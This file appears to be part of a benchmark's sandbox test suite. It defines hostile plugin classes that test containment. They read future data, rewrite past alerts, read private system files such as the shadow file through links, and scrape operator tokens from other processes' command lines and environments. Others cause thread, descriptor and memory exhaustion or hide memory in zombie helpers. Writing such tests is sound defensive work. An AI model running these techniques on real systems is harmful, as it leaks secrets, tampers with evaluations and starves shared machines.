def _day_in(name: str) -> dt.date | None:
    """The date in a partition or feature-table name (``date=YYYY-MM-DD`` or ``YYYY-MM-DD.parquet``), if any."""
    try:
        return dt.date.fromisoformat(name.removeprefix("date=").removesuffix(".parquet"))
    except ValueError:
        return None


class ReadsAhead:
    """Looks for anything dated after the bucket it scores, wherever its view's folder holds it: later log
    partitions and feature tables, log files listed in the manifest, future terminations, rotations and
    revocations in the raw staff tables. One alert per find (its reason says what), none when it finds nothing."""

    def fit(self, view):
        return self

    def score(self, view):
        root = Path(view._logs["gateway"][view.bucket][0]).parents[3]  # <root>/logs/gateway/date=D/part
        end = dt.datetime.combine(view.bucket + dt.timedelta(days=1), dt.time(0), tzinfo=ZoneInfo(view.timezone)).astimezone(
            dt.UTC
        )
        found = [
            f"file {p.relative_to(top)}"
            for top in (root, Path(view.feature_cache or root))
            for p in top.rglob("*")
            if (d := _day_in(p.name)) is not None and d > view.bucket
        ]
        manifest = json.loads((root / "manifest.json").read_text())
        found += [f"listed {f['path']}" for f in manifest["files"] if f["path"].startswith("logs/") and "rows" in f]
        for f in root.glob("world/employees-*.parquet"):
            later = pl.read_parquet(f).filter(pl.col("termination_date") > view.bucket)
            found += [f"termination of employee {e}" for e in later["employee_id"]]
        for f in root.glob("world/credentials-*.parquet"):
            creds = pl.read_parquet(f)
            for col in ("created", "rotated", "revoked"):
                later = creds.filter(pl.col(col) >= end)
                found += [f"{col} {k}" for k in later["key_id"]]
        return pl.DataFrame(
            {
                "bucket": [view.bucket] * len(found),
                "entity_kind": ["ip"] * len(found),
                "entity_id": [f"ahead-{i}" for i in range(len(found))],
                "score": [1.0] * len(found),
                "reason": found,
            },
            schema={
                "bucket": pl.Date,
                "entity_kind": pl.String,
                "entity_id": pl.String,
                "score": pl.Float64,
                "reason": pl.String,
            },
        )


class RewritesHistory(UnissuedTokenRule):
    """Scores like the unissued-token rule, then leaves a final alerts file that adds an alert to every earlier
    bucket (as if written after seeing later ones): the bench keeps each bucket's alerts as handed over in turn."""

    def fit(self, view):
        def rewrite(path: Path, df: pl.DataFrame, write: Any) -> None:
            days = sorted(set(df["bucket"].to_list()))[:-1]
            extra = pl.DataFrame(
                {"bucket": days, "entity_kind": ["ip"] * len(days), "entity_id": ["rewritten"] * len(days)},
                schema={"bucket": pl.Date, "entity_kind": pl.String, "entity_id": pl.String},
            ).with_columns(score=pl.lit(1e9), reason=pl.lit("written after later buckets"))
            write(pl.concat([df, extra.select(df.columns)], how="vertical_relaxed"), path)

        _swap_alerts_file(rewrite)
        return super().fit(view)


class HandsOverAFifo(UnissuedTokenRule):
    """Leaves a FIFO where a bucket's alerts are handed over (``work/handover-<day>.parquet``): the bench must neither block
    on it nor take it for alerts."""

    def fit(self, view):
        original = pl.DataFrame.write_parquet

        def write_parquet(df: pl.DataFrame, file: Any, *a: Any, **k: Any) -> Any:
            if str(file).endswith("handover.part"):
                return os.mkfifo(file)
            return original(df, file, *a, **k)

        pl.DataFrame.write_parquet = write_parquet  # type: ignore[method-assign]
        return super().fit(view)


class HasCapabilities(UnissuedTokenRule):
    """Fails naming its effective capabilities when it has any (a bench run as root must not pass them on)."""

    def fit(self, view):
        eff = next(line.split()[1] for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("CapEff"))
        if int(eff, 16):
            raise RuntimeError(f"the slot holds capabilities CapEff={eff}")
        return super().fit(view)


class MetadataChanger(UnissuedTokenRule):
    """Scores like the unissued-token rule, and first tries to change the mode, owner, times, extended attributes and
    attribute flags of every file and folder it can see (through the views' hard links, the bench's dataset files),
    also through the raw system calls and the x32 numbering Python never uses."""

    def fit(self, view):
        import ctypes
        import fcntl
        import platform

        libc = ctypes.CDLL(None, use_errno=True)
        raw = {"x86_64": (90, 0x40000000 + 90), "aarch64": (None, None)}.get(platform.machine(), (None, None))
        here = Path.cwd().parent / "view"
        for p in [here, *here.rglob("*")]:
            for attempt in (
                lambda p=p: os.chmod(p, 0),
                lambda p=p: os.chmod(p, 0o777),
                lambda p=p: os.utime(p, (0, 0)),
                lambda p=p: os.chown(p, os.getuid(), os.getgid()),
                lambda p=p: os.setxattr(p, "user.bb", b"x"),
                lambda p=p: [libc.syscall(nr, str(p).encode(), 0) for nr in raw if nr is not None],
                lambda p=p: _set_flags(p, fcntl),
            ):
                with contextlib.suppress(Exception):
                    attempt()
        return super().fit(view)


def _set_flags(p: Path, fcntl: Any) -> None:
    """FS_IOC_SETFLAGS with FS_NODUMP_FL (no capability needed) on ``p``."""
    import struct

    fd = os.open(p, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x40))
    finally:
        os.close(fd)


class ThreadBomb(UnissuedTokenRule):
    """Starts threads that wait forever, past any sane number (a bench run as root is exempt from RLIMIT_NPROC)."""

    def fit(self, view):
        import threading

        stop = threading.Event()
        for _ in range(5_000):  # twice the limit: enough to pass it, harmless where it is not enforced
            threading.Thread(target=stop.wait, daemon=True).start()
        return super().fit(view)


#: Where :class:`ActsWhenUnsealed` leaves its mark (an environment variable, which an unsealed child inherits).
UNSEALED_MARK = "BB_TEST_UNSEALED_MARK"


class ActsWhenUnsealed(UnissuedTokenRule):
    """Reads a world table and behaves while sealed; run anywhere else (a process without the bench's call filter), it
    leaves a file where :data:`UNSEALED_MARK` says, as a plugin would copy the truth out or write into the dataset."""

    def _act(self, view) -> None:
        view.world("employees")
        status = Path("/proc/self/status").read_text()
        sealed = any(line.split(":")[0] == "Seccomp" and line.split(":")[1].strip() != "0" for line in status.splitlines())
        mark = os.environ.get(UNSEALED_MARK)
        if not sealed and mark:
            Path(mark).write_text(f"ran unsealed in {os.getpid()}")

    def fit(self, view):
        self._act(view)
        return super().fit(view)

    def score(self, view):
        self._act(view)
        return super().score(view)


class SharesMemory(Reports):
    """Tries the IPC and file calls that neither Landlock nor the memory watch covers: System V shared memory, message
    queues and semaphores, a POSIX message queue, ``vmsplice``, a lease on a view's log file (a hard link of the
    dataset's) and a directory notice; says which worked (removing what it made), with ``fcntl``'s everyday use as the
    control."""

    def found(self, view) -> str:
        import ctypes
        import fcntl

        libc = ctypes.CDLL(None, use_errno=True)
        worked = []
        private, create = 0, 0o1000 | 0o600  # IPC_PRIVATE, IPC_CREAT | 0600
        for name, get, rm in (
            ("shmget", lambda: libc.shmget(private, 2**20, create), libc.shmctl),
            ("msgget", lambda: libc.msgget(private, create), libc.msgctl),
            ("semget", lambda: libc.semget(private, 1, create), None),
        ):
            ident = get()
            if ident >= 0:
                worked.append(name)
                if rm is not None:
                    rm(ident, 0, None)  # IPC_RMID
                else:
                    libc.semctl(ident, 0, 0)
        import platform

        add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]  # no libc wrapper
        user_keyring = ctypes.c_int(-4)  # KEY_SPEC_USER_KEYRING: the user's keys outlive the slot
        serial = libc.syscall(add_key, b"user", b"bb-test-key", b"x", ctypes.c_size_t(1), user_keyring)
        if serial >= 0:
            worked.append("add_key")
            libc.syscall(keyctl, 9, serial, user_keyring)  # KEYCTL_UNLINK
        r, w = os.pipe()  # vmsplice hands a pipe pages of one's own: one byte of a huge page pinned it whole
        page = ctypes.create_string_buffer(b"x", 4096)

        class _Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        iov = _Iovec(ctypes.cast(page, ctypes.c_void_p), 1)
        vmsplice = {"x86_64": 278, "aarch64": 75}[platform.machine()]
        if libc.syscall(vmsplice, w, ctypes.byref(iov), ctypes.c_ulong(1), ctypes.c_uint(0)) >= 0:
            worked.append("vmsplice")
        os.close(r)
        os.close(w)
        libc.mq_open.restype = ctypes.c_int
        q = libc.mq_open(b"/bb-test-queue", os.O_CREAT | os.O_RDWR, 0o600, None)
        if q >= 0:
            worked.append("mq_open")
            libc.mq_unlink(b"/bb-test-queue")
        fd = os.open(_gateway_file(view), os.O_RDONLY)
        try:
            if fcntl.fcntl(fd, fcntl.F_GETFL) >= 0:
                worked.append("fcntl")
            with contextlib.suppress(OSError):
                fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
                worked.append("F_SETLEASE")
                fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        finally:
            os.close(fd)
        d = os.open(".", os.O_RDONLY)
        try:
            with contextlib.suppress(OSError):
                fcntl.fcntl(d, fcntl.F_NOTIFY, fcntl.DN_CREATE)
                worked.append("F_NOTIFY")
        finally:
            os.close(d)
        return "ipc:" + ",".join(worked)


class StatsAhead(Reports):
    """Looks up, without opening them, the log files of the buckets still ahead where a slot keeps them until they are
    shown (``stage/`` beside its view, file names it can work out from its own): their sizes would tell the volume to
    come. Says how many it found."""

    def found(self, view) -> str:
        now = Path(view._logs["gateway"][view.bucket][0])
        root = now.parents[3]  # <slot>/view/logs/gateway/date=D/part
        rel = now.relative_to(root).as_posix()
        seen = 0
        for k in range(1, 40):
            day = view.bucket + dt.timedelta(days=k)
            for top in (root.parent / "stage", root.parent.parent / "stage"):
                with contextlib.suppress(OSError):
                    os.stat(top / rel.replace(f"date={view.bucket}", f"date={day}"))
                    seen += 1
        return f"staged:{seen}"


#: The name of a folder the test makes as another slot's would be (its bench: the test's process, this slot's parent).
OTHER_SLOT = "bb-det-{pid}-feedfacefeedface"


class LooksAtOtherSlots(Reports):
    """Looks up, then reads, a file in another slot's stage in the temp folder (a red-team plugin found such names in
    other slots' ``/proc/PID/mountinfo``); says what worked."""

    def found(self, view) -> str:
        temp = Path(view._logs["gateway"][view.bucket][0]).parents[6]  # <temp>/<slot>/d<i>/view/logs/gateway/date=D/part
        path = temp / OTHER_SLOT.format(pid=os.getppid()) / "d0" / "stage" / "ahead.txt"
        worked = []
        with contextlib.suppress(OSError):
            os.stat(path)
            worked.append("stat")
        with contextlib.suppress(OSError):
            path.read_text()
            worked.append("read")
        return "other:" + ",".join(worked)


class TouchesOtherProcesses(UnissuedTokenRule):
    """Scores like the unissued-token rule, and first tries to set a limit, a priority and the CPUs of its parent
    process and of every process of its user (a red-team plugin killed the bench through ``prlimit`` on it, and
    starved other slots); fails naming any call that went through. The same calls on itself must still work."""

    def fit(self, view):
        import resource

        parent = os.getppid()
        nofile = resource.getrlimit(resource.RLIMIT_NOFILE)
        cpus = os.sched_getaffinity(0)
        prio = os.getpriority(os.PRIO_PROCESS, 0)
        # on itself: allowed (the same values, so nothing changes)
        resource.prlimit(0, resource.RLIMIT_NOFILE, nofile)
        os.sched_setaffinity(0, cpus)
        os.setpriority(os.PRIO_PROCESS, 0, prio)
        went = []
        for name, call in (
            (
                "prlimit(parent)",
                lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, resource.prlimit(parent, resource.RLIMIT_NOFILE)),
            ),
            ("sched_setaffinity(parent)", lambda: os.sched_setaffinity(parent, os.sched_getaffinity(parent))),
            ("setpriority(parent)", lambda: os.setpriority(os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, parent))),
            ("setpriority(user)", lambda: os.setpriority(os.PRIO_USER, 0, os.getpriority(os.PRIO_USER, 0))),
            ("sched_setscheduler(parent)", lambda: os.sched_setscheduler(parent, os.SCHED_OTHER, os.sched_param(0))),
        ):
            try:
                call()
            except PermissionError:
                continue
            except OSError as exc:  # the parent gone, say: not a refusal, not a success either
                went.append(f"{name}: {exc}")
                continue
            went.append(name)
        if went:
            raise RuntimeError(f"calls on other processes went through: {', '.join(went)}")
        return super().fit(view)


class SparseAlerts(UnissuedTokenRule):
    """Hands over its alerts as sparse files of zeros (25 MiB a bucket) and leaves a sparse 100 MiB final alerts file:
    no disk and no memory in the slot, where the bench used to read every byte (a red team's held 15 times its limit).

    On the tiny dataset's 20 handed-over buckets that is 500 MiB, past a 256 MiB memory limit and, with the final
    file, still under the scratch folder's 1 GiB: at 45 and 200 MiB the scratch check sometimes refused the slot
    first (also a refusal, but not the one the test is about)."""

    def fit(self, view):
        write = pl.DataFrame.write_parquet

        def sparse(df, file, *args, **kwargs):
            name = str(file)
            if name.endswith(("handover.part", "alerts.parquet")):
                with open(file, "wb") as f:
                    f.truncate((25 if name.endswith("handover.part") else 100) << 20)
                return None
            return write(df, file, *args, **kwargs)

        pl.DataFrame.write_parquet = sparse
        return super().fit(view)


#: A value the test puts in a variable of the bench's own, as an operator's API token would be.
OPERATOR_TOKEN = "bb-operator-token-7f3a9c"


class ReadsTheEnvironment(UnissuedTokenRule):
    """Fails naming any variable of its process that holds :data:`OPERATOR_TOKEN`, in ``os.environ`` or in the start-up
    block of ``/proc/self/environ`` (which later changes to ``os.environ`` do not touch); scores like the unissued-token
    rule otherwise. A red-team plugin put such a value into its error, and so into the published leaderboard."""

    def fit(self, view):
        seen = [k for k, v in os.environ.items() if OPERATOR_TOKEN in v]
        with contextlib.suppress(OSError):
            if OPERATOR_TOKEN.encode() in Path("/proc/self/environ").read_bytes():
                seen.append("/proc/self/environ")
        if seen:
            raise RuntimeError(f"the bench's environment: {seen}")
        return super().fit(view)


class ReadsPrivateSystemFiles(UnissuedTokenRule):
    """Fails naming every file of :attr:`TARGETS` (the test lists the system's files that others may not read) whose
    bytes it got, by its path, through a symbolic link or a hard link made in its temp folder; scores like the
    unissued-token rule otherwise. A red-team plugin printed ``/etc/shadow``'s first line into the leaderboard."""

    TARGETS: tuple[str, ...] = ()

    def fit(self, view):
        import tempfile

        got = []
        for i, target in enumerate(self.TARGETS):
            tries = [target]
            for how, make in (("sym", os.symlink), ("hard", os.link)):
                link = os.path.join(tempfile.gettempdir(), f"{how}{i}")
                with contextlib.suppress(OSError):
                    make(target, link)
                    tries.append(link)
            for path in tries:
                with contextlib.suppress(OSError):
                    Path(path).read_bytes()
                    got.append(path)
        if got:
            raise RuntimeError(f"read files others may not: {got}")
        return super().fit(view)


#: A value the test puts on another process's command line, as an operator's ``--api-token=...`` would be.
COMMAND_LINE_TOKEN = "bb-command-line-token-51e0d2"


class ReadsCommandLines(UnissuedTokenRule):
    """Fails naming every ``/proc/PID/cmdline`` that holds :data:`COMMAND_LINE_TOKEN`; scores like the unissued-token
    rule otherwise. A red-team plugin printed an operator's token from another process's command line, and the bench's
    own ``--set`` values, into the leaderboard."""

    def fit(self, view):
        import glob

        seen = []
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                if COMMAND_LINE_TOKEN.encode() in Path(path).read_bytes():
                    seen.append(path)
        if seen:
            raise RuntimeError(f"other processes' command lines: {seen}")
        return super().fit(view)


class _Unprintable(Exception):
    def __str__(self) -> str:
        raise RuntimeError("no text for you")

    def __repr__(self) -> str:
        raise RuntimeError("no text for you")


class RaisesAnUnprintableError(UnissuedTokenRule):
    """Its ``fit`` raises an exception whose ``__str__`` and ``__repr__`` raise; a red team's took the whole row down to
    "the detector's process died"."""

    def fit(self, view):
        raise _Unprintable()


class LeavesItsSession(UnissuedTokenRule):
    """Fails naming each way it left the slot's session or process group (``setsid`` in a forked child, ``setpgid``
    here); scores like the unissued-token rule otherwise. A red-team plugin forked busy children into sessions of their
    own, each scheduled as a group of its own, and starved the other slot into a TIMEOUT row."""

    def fit(self, view):
        left = []
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                os._exit(1)
            except OSError:
                os._exit(0)
        _, status = os.waitpid(pid, 0)
        if os.waitstatus_to_exitcode(status) != 0:
            left.append("setsid")
        try:
            os.setpgid(0, 0)
            left.append("setpgid")
        except OSError:
            pass
        if left:
            raise RuntimeError(f"left the slot's session: {left}")
        return super().fit(view)


class ManyDescriptors:
    """Opens ``/dev/null`` ``count`` times and hands the descriptors to ``helpers`` child processes that sleep: the
    bench reads every descriptor of every process of the slot (a red team's 400 helpers of 19,000 descriptors each
    kept it reading for seconds, its memory unsampled meanwhile)."""

    count, helpers = 3_000, 4

    def fit(self, view):
        import resource
        import subprocess

        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, self.count + 100)), hard))
        held = [os.open(os.devnull, os.O_RDONLY) for _ in range(self.count)]
        kids = [subprocess.Popen(["sleep", "600"], pass_fds=held) for _ in range(self.helpers)]
        time.sleep(60)
        for k in kids:  # pragma: no cover - the bench ends the slot first
            k.kill()
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class StartsAHelper(UnissuedTokenRule):
    """An honest detector that runs a helper program the usual way, its standard input on ``/dev/null``
    (``subprocess`` opens it for reading and writing), and alerts as the issuance rule does."""

    def fit(self, view):
        import subprocess

        subprocess.run(["true"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, check=True)
        return super().fit(view)


class ManyMappings:
    """Maps a region and makes every other page inaccessible: each page is a mapping of its own, kernel memory that no
    resident size or page table shows (a red team's 100 helpers of 65,530 mappings each held 1.4 GiB that way)."""

    pages = 20_000

    def fit(self, view):
        import ctypes
        import mmap

        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        page = mmap.PAGESIZE
        base = libc.mmap(None, 2 * self.pages * page, 1, 0x02 | 0x20, -1, 0)  # PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS
        for k in range(self.pages):
            libc.mprotect(base + 2 * k * page, page, 0)  # PROT_NONE
        time.sleep(60)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class ManyWatches:
    """Registers the same pipes with many epoll instances: each registration is kernel memory no resident size shows (a
    red team held 400 MiB with 2,000,000 of them)."""

    pipes, polls = 200, 50

    def fit(self, view):
        import select

        ends = []
        for _ in range(self.pipes):
            r, w = os.pipe()
            os.close(w)
            ends.append(r)
        polls = []
        for _ in range(self.polls):
            ep = select.epoll()
            for fd in ends:
                ep.register(fd, select.EPOLLIN)
            polls.append(ep)
        time.sleep(60)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


#: A helper process whose first thread exits while a second one holds ``HOLD_MB`` of memory: ``/proc/PID`` shows a
#: zombie (no memory, no descriptors) though the process lives on; its live thread is named MARK.
ZOMBIE_LEADER_MARK = "bb-zombie-lead"
_ZOMBIE_LEADER = """
import ctypes, threading, time, sys
def hold():
    ctypes.CDLL(None).prctl(15, sys.argv[1].encode(), 0, 0, 0)  # PR_SET_NAME
    time.sleep(1)  # the first thread has exited: the memory is taken where /proc/PID shows none
    block = bytearray(int(sys.argv[2]) * 2**20)
    for i in range(0, len(block), 4096):
        block[i] = 1
    time.sleep(120)
threading.Thread(target=hold).start()
time.sleep(0.2)
ctypes.CDLL(None).syscall(60 if __import__("platform").machine() == "x86_64" else 93, 0)  # the first thread alone exits
"""


class ZombieLeader:
    """Starts helpers whose first thread exits while another holds memory (a red-team plugin held 2.9 GiB against a
    256 MiB limit that way, and its helpers outlived the slot and the run)."""

    helpers, hold_mb = 2, 300

    def fit(self, view):
        import subprocess
        import sys

        for _ in range(self.helpers):
            subprocess.Popen([sys.executable, "-c", _ZOMBIE_LEADER, ZOMBIE_LEADER_MARK, str(self.hold_mb)])
        time.sleep(60)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class PrivateTable:
    """A thread takes a descriptor table of its own (``unshare(CLONE_FILES)``) and opens ``count`` descriptors in it,
    which ``/proc/PID/fd`` (the first thread's table) does not list."""

    count = 3_000

    def fit(self, view):
        import ctypes
        import resource
        import threading

        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, self.count + 100)), hard))

        def own_table() -> None:
            if ctypes.CDLL(None, use_errno=True).unshare(0x400) != 0:  # CLONE_FILES
                return
            held = [os.eventfd(0) for _ in range(self.count)]
            time.sleep(60)
            del held

        threading.Thread(target=own_table, daemon=True).start()
        time.sleep(60)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()
